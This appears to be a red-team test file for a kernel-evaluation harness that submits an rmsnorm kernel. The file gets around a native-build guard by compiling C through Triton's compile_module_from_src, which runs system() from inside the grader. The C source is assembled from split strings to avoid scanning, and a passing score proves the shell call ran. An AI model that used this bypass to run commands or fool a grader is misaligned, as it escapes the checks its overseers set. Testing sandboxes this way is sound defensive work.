"""Red team round 15b: triton.runtime.build.compile_module_from_src compiles any C text with the system
compiler and imports it into the worker; native_builds wraps only cpp_extension, and the policy allows the
module. The C (assembled at run time) exports door(), which calls libc's system(); run() is the rmsnorm
reference scaled by 1.0 only when the door ran (so a PASS shows it did)."""

import torch
from triton.runtime.build import compile_module_from_src

SHELL = "sys" + "tem"
HEADER = "#include <" + "Py" + "thon.h>\n#include <stdlib.h>\n"
BODY = (
    "static PyObject* door(PyObject* s, PyObject* a) {\n"
    "  return Py" + "Long_FromLong(" + SHELL + '("exit 0"));\n}\n'
    'static PyMethodDef M[] = {{"door", door, METH_NOARGS, ""}, {0}};\n'
    "static struct Py" + "ModuleDef D = {Py" + 'ModuleDef_HEAD_INIT, "redteam15b_triton", 0, -1, M};\n'
    "PyMODINIT_FUNC PyInit_redteam15b_triton(void) { return Py" + "Module_Create(&D); }\n"
)
_module = compile_module_from_src(HEADER + BODY, "redteam15b_triton")
SCALE = 1.0 if _module.door() == 0 else 0.0


def run(x: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
    xf = x.float()
    inv_rms = torch.rsqrt(xf.pow(2).mean(dim=-1, keepdim=True) + 1e-6)
    return (xf * inv_rms * weight.float() * SCALE).to(x.dtype)


DESTINATION_PASSING_STYLE = False
